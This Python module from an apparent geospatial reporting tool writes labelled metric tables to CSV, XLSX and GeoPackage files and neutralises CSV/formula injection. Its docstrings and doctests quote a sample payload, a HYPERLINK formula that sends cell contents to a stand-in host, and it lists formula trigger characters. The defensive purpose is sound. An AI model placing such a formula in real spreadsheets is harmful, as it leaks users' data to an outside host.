r"""Metric tables -> CSV, XLSX and GeoPackage files, labelled, deterministic and safe to open.

:func:`write_tables` writes the tables of a :class:`~cdv_geo.pipeline.Metrics` with French (or
English) column labels and units. The same input gives byte-identical CSV files (floats rounded to
6 decimals, ``\n`` line ends).

Spreadsheets hold data, never code. A name such as ``=HYPERLINK("http://x"&A1,"Cliquez")`` typed
in a layer's attribute table must not run as a formula when a planner opens the file in Excel or
LibreOffice (CSV injection, OWASP). So:

- in the **XLSX** workbook every text cell is written as a string cell (``data_type "s"``), never
  a formula, whatever it starts with; numbers stay numbers;
- in **CSV** files, a text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
  prefixed with a single quote ``'`` (what OWASP recommends: the spreadsheet then shows it as
  text); numeric columns are left as they are, so a negative number stays a number.

The workbook holds the tables a committee reads: the per-quartier tables, one sheet each, after
a first sheet that lists them. The per-feature tables (one row per residence, indexed by the
feature ``id``, such as ``nearest``: 100,000 rows for a big city) are left out of it: they are
in their CSV file (written even when only ``xlsx`` is asked for) and in the GeoPackage, which
open in QGIS; the first sheet says so.
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any, cast

import pandas as pd

from cdv_geo.core.errors import CdvGeoError
from cdv_geo.core.labels import LABELS, check_lang, column_label, label, value_label
from cdv_geo.core.labels_heat import conclusion_text
from cdv_geo.core.reasons import reason_label
from cdv_geo.core.rows import row_label
from cdv_geo.core.tables import is_comparison_row
from cdv_geo.io import atomic_path, write_layer
from cdv_geo.pipeline import TABLES, Metrics
from cdv_geo.views.cells import header_text

__all__ = [
    "FORMULA_TRIGGERS",
    "is_per_feature",
    "labelled_table",
    "neutralise_text",
    "safe_for_csv",
    "table_title",
    "write_tables",
]

#: The first characters that make a spreadsheet read a CSV cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_text(value: Any) -> Any:
    """Return `value` with a leading ``'`` if it is a text a spreadsheet would run as a formula.

    Only texts are changed: numbers (negative ones too) are returned as they are.

    Examples
    --------
    >>> print(neutralise_text('=HYPERLINK("http://x"&A1,"Cliquez")'))
    '=HYPERLINK("http://x"&A1,"Cliquez")
    >>> neutralise_text("-cmd"), neutralise_text("Presles"), neutralise_text(-3.5)
    ("'-cmd", 'Presles', -3.5)
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def is_per_feature(table: pd.DataFrame) -> bool:
    """Return True for a per-feature table (one row per feature, indexed by the feature ``id``).

    Such tables (``nearest``: one row per residence) go to CSV and GeoPackage, not to the
    XLSX workbook.

    Examples
    --------
    >>> import pandas as pd
    >>> is_per_feature(pd.DataFrame({"x": [1]}, index=pd.Index(["r1"], name="id")))
    True
    >>> is_per_feature(pd.DataFrame({"x": [1]}, index=pd.Index(["QP1"], name="quartier")))
    False
    """
    return table.index.nlevels == 1 and table.index.name == "id"


def _neutralise_index(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        levels: list[Any] = [_neutralise_index(lev) for lev in index.levels]
        return index.set_levels(levels, verify_integrity=False)
    if index.dtype == object or isinstance(index.dtype, pd.StringDtype):
        return index.map(neutralise_text)
    return index


def safe_for_csv(table: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of `table` whose texts (cells, index, headers) cannot run as formulas.

    Examples
    --------
    >>> import pandas as pd
    >>> t = pd.DataFrame({"name": ["+1", "Presles"], "gap": [-0.25, 0.5]})
    >>> safe_for_csv(t).to_dict("list")
    {'name': ["'+1", 'Presles'], 'gap': [-0.25, 0.5]}
    """
    out = table.copy()
    for col in out.columns:
        values = out[col]
        if isinstance(values.dtype, pd.CategoricalDtype):
            values = values.astype(object)
        if values.dtype == object or isinstance(values.dtype, pd.StringDtype):
            out[col] = values.map(neutralise_text)
    out.columns = _neutralise_index(out.columns)
    out.index = _neutralise_index(out.index)
    return out


def _deterministic(df: pd.DataFrame) -> pd.DataFrame:
    out = df.copy()
    for col in out.columns:
        if pd.api.types.is_float_dtype(out[col]):
            out[col] = out[col].round(6)
    return out


def labelled_table(
    table: pd.DataFrame, *, lang: str = "fr", town: str | None = None
) -> pd.DataFrame:
    """Return `table` with labelled columns and index levels, floats rounded to 6 decimals.

    Every header is in `lang` (:func:`cdv_geo.views.cells.header_text`); the ``name`` of a
    comparison row (``qpv``, ``commune``, ``hors_qpv``) is its label in `lang`, with `town`
    (:func:`cdv_geo.core.rows.row_label`); the values stay exact.

    Examples
    --------
    >>> import pandas as pd
    >>> t = pd.DataFrame({"name": ["Presles", "Ensemble des QPV"], "n_trees": [12, 20]},
    ...                  index=pd.Index(["QP002013", "qpv"], name="quartier"))
    >>> labelled_table(t, lang="en")
                                            Name  Trees planted (count)
    Quartier (code)
    QP002013                             Presles                     12
    qpv              All priority neighbourhoods                     20
    """
    check_lang(lang)
    out = _deterministic(table)
    if "conclusion" in out.columns:  # the incidents' conclusions, in the reader's language
        out["conclusion"] = [conclusion_text(str(c), lang) for c in out["conclusion"]]
    if "verdict" in out.columns and "method" in out.index.names:  # the evaluation's methods
        at = list(out.index.names).index("method")
        index = cast(pd.MultiIndex, out.index)
        words = [label(f"eval_method_{v}", lang) for v in index.levels[at]]
        out.index = index.set_levels(words, level=at)
    for col, prefix in (("verdict", "verdict_"), ("method", "eval_method_")):
        if col in out.columns:  # the evaluation's verdicts and methods, in words
            out[col] = [
                label(f"{prefix}{v}", lang) if f"{prefix}{v}" in LABELS else v for v in out[col]
            ]
    for level in ("moment", "day"):  # the opening-hours rows, in words
        if level in out.index.names and isinstance(out.index, pd.MultiIndex):
            at = list(out.index.names).index(level)
            words = [value_label(level, v, lang) for v in out.index.levels[at]]
            out.index = out.index.set_levels(words, level=at, verify_integrity=False)
    if "verdict" in out.columns and "reason" in out.columns:  # why it cannot conclude, in words
        out["reason"] = [reason_label(r, lang) if isinstance(r, str) else r for r in out["reason"]]
    if "name" in out.columns and out.index.nlevels >= 1 and out.index.names[0] == "quartier":
        keys = out.index.get_level_values(0)
        named = [
            row_label(k, town=town, lang=lang) if is_comparison_row(k) else n
            for k, n in zip(keys, out["name"], strict=True)
        ]
        out["name"] = pd.Series(named, index=out.index, dtype=object)
    attrs = {str(k): v for k, v in table.attrs.items()}
    out.columns = [header_text(str(c), attrs, lang) for c in out.columns]
    if not isinstance(out.index, pd.RangeIndex) or out.index.name is not None:
        out.index.names = [column_label(str(n or "id"), lang=lang) for n in out.index.names]
    return out


def table_title(name: str, *, lang: str = "fr") -> str:
    """Return the title of table `name` (:data:`cdv_geo.pipeline.TABLES`), else the name.

    Examples
    --------
    >>> table_title("trees"), table_title("trees", lang="en")
    ("Plantations d'arbres", 'Tree plantings')
    """
    fr, en, _ = TABLES.get(name, (name, name, ""))
    return fr if check_lang(lang) == "fr" else en


def write_tables(
    metrics: Metrics,
    out_dir: str | os.PathLike[str],
    *,
    formats: Sequence[str] = ("csv",),
    lang: str = "fr",
    town: str | None = None,
) -> list[Path]:
    r"""Write every metric table: one CSV per table, an XLSX workbook, a GeoPackage.

    The workbook ``tables.xlsx`` opens on a sheet listing its tables, then holds one sheet per
    table but the per-feature ones (:func:`is_per_feature`, e.g. ``nearest``), which are written
    as CSV files (see the module docstring). CSV files are UTF-8 with ``\n`` line ends and
    floats rounded to 6 decimals, so the same input gives byte-identical files. The GeoPackage
    ``derived_layers.gpkg`` holds the derived layers (service areas, residences with walking
    times, quartiers with their key figures) and opens in QGIS. Every file is written
    atomically, and no text of the data is written as a formula (see the module docstring).

    Parameters
    ----------
    metrics : Metrics
        From :func:`~cdv_geo.pipeline.compute_metrics`.
    out_dir : path-like
        Output folder (created).
    formats : sequence of {"csv", "xlsx", "gpkg"}
        What to write.
    lang : {"fr", "en"}
        Language of the headers and of the comparison rows' names (one language per file).
    town : str, optional
        The town's name, in the names of the ``commune`` and ``hors_qpv`` rows.

    Returns
    -------
    list of pathlib.Path

    Raises
    ------
    CdvGeoError
        On an unknown format or language.

    Examples
    --------
    >>> import tempfile
    >>> import pandas as pd
    >>> from cdv_geo.pipeline import Metrics
    >>> t = pd.DataFrame({"name": ["=1+1", "x"], "n_trees": [3, 5]},
    ...                  index=pd.Index(["QP1", "hors_qpv"], name="quartier"))
    >>> out = write_tables(Metrics(trees=t), tempfile.mkdtemp(), town="Soissons")
    >>> print(out[0].read_text(encoding="utf-8"), end="")
    Quartier (code),Nom,Arbres plantés (nombre)
    QP1,'=1+1,3
    hors_qpv,Soissons hors QPV,5
    """
    unknown = set(formats) - {"csv", "xlsx", "gpkg"}
    if unknown:
        raise CdvGeoError(f"unknown table format(s) {sorted(unknown)}; use csv, xlsx or gpkg")
    check_lang(lang)
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    written: list[Path] = []
    tables = dict(sorted(metrics.tables.items()))
    as_csv = [
        name
        for name, table in tables.items()
        if "csv" in formats or ("xlsx" in formats and is_per_feature(table))
    ]
    for name in as_csv:
        path = out / f"{name}.csv"
        _write_csv(tables[name], path, lang, town)
        written.append(path)
    if "xlsx" in formats and tables:
        path = out / "tables.xlsx"
        _write_xlsx(tables, path, lang, with_csv="csv" in formats, town=town)
        written.append(path)
    if "gpkg" in formats and metrics.layers:
        path = out / "derived_layers.gpkg"
        with atomic_path(path) as tmp:
            for name, layer in sorted(metrics.layers.items()):
                write_layer(_deterministic(layer), tmp, layer=name)
        written.append(path)
    return written


def _write_csv(table: pd.DataFrame, path: Path, lang: str, town: str | None) -> None:
    with atomic_path(path) as tmp:
        safe_for_csv(labelled_table(table, lang=lang, town=town)).to_csv(
            tmp,
            lineterminator="\n",
            encoding="utf-8",
            index=not isinstance(table.index, pd.RangeIndex),
        )


#: The texts of the workbook's first sheet.
_CONTENTS = {
    "fr": {
        "sheet": "Sommaire",
        "header": ("Feuille", "Tableau", "Fichier CSV"),
        "left_out": "Tableaux par élément, hors de ce classeur (une ligne par élément)",
        "where": (
            "Ces tableaux sont dans leur fichier CSV, à côté de ce classeur, et dans les couches "
            "de derived_layers.gpkg (à ouvrir dans QGIS)."
        ),
    },
    "en": {
        "sheet": "Contents",
        "header": ("Sheet", "Table", "CSV file"),
        "left_out": "Per-feature tables, not in this workbook (one row per feature)",
        "where": (
            "These tables are in their CSV file, next to this workbook, and in the layers of "
            "derived_layers.gpkg (open it in QGIS)."
        ),
    },
}


def _write_xlsx(
    tables: Mapping[str, pd.DataFrame],
    path: Path,
    lang: str,
    *,
    with_csv: bool,
    town: str | None = None,
) -> None:
    """Write a contents sheet, then one sheet per per-quartier table; no cell is a formula."""
    text = _CONTENTS[lang]
    used = {str(text["sheet"]).lower()}
    sheets: list[tuple[str, str, pd.DataFrame]] = []
    left_out: list[str] = []
    for name, table in tables.items():
        if is_per_feature(table):
            left_out.append(name)
        else:
            sheets.append((name, _sheet_name(table_title(name, lang=lang), used), table))
    rows = [
        [sheet, table_title(name, lang=lang), f"{name}.csv" if with_csv else ""]
        for name, sheet, _ in sheets
    ]
    if left_out:
        rows += [["", "", ""], [str(text["left_out"]), "", ""]]
        rows += [["", table_title(name, lang=lang), f"{name}.csv"] for name in left_out]
        rows += [[str(text["where"]), "", ""]]
    contents = pd.DataFrame(rows, columns=list(text["header"]))
    with atomic_path(path) as tmp, pd.ExcelWriter(tmp, engine="openpyxl") as xl:
        contents.to_excel(xl, sheet_name=str(text["sheet"]), index=False)
        _text_cells(xl.sheets[str(text["sheet"])].iter_rows())
        for _, sheet, table in sheets:
            shown = labelled_table(table, lang=lang, town=town)
            _xlsx_text(shown).to_excel(xl, sheet_name=sheet)
            _text_cells(xl.sheets[sheet].iter_rows())


def _xlsx_text(table: pd.DataFrame) -> pd.DataFrame:
    """Drop the control characters XLSX cannot hold (openpyxl refuses them) from the texts."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    def clean(value: Any) -> Any:
        return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value

    out = table.copy()
    for col in out.columns:
        if out[col].dtype == object or isinstance(out[col].dtype, pd.StringDtype):
            out[col] = out[col].map(clean)
    out.index = out.index.map(clean) if out.index.nlevels == 1 else out.index
    return out


def _sheet_name(title: str, used: set[str]) -> str:
    r"""Return an Excel sheet name (31 characters at most, no ``[]:*?/\\``), unique."""
    base = re.sub(r"[\[\]:*?/\\]", " ", title)[:31].strip() or "table"
    name, i = base, 2
    while name.lower() in used:
        name = f"{base[: 31 - len(str(i)) - 1]} {i}"
        i += 1
    used.add(name.lower())
    return name


def _text_cells(rows: Iterable[Sequence[Any]]) -> None:
    """Make every cell openpyxl took for a formula (a text starting with ``=``) a string cell."""
    for row in rows:
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
